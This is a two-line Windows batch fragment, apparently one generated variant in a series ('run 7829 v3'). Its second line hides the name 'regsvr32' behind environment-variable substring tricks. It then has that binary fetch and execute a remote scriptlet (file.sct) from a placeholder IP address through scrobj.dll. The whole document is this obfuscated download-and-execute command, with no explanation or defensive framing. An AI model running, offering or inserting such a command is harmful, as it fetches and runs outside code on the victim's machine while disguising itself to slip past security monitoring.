REM run 7829 v3
%ProgramData:~4,1%%COMSPEC:~-1,1%%programdata:~6,1%%COMSPEC:~13,1%vr32 /s /n /u /i:http://192.0.2.150/file.sct scrobj.dll
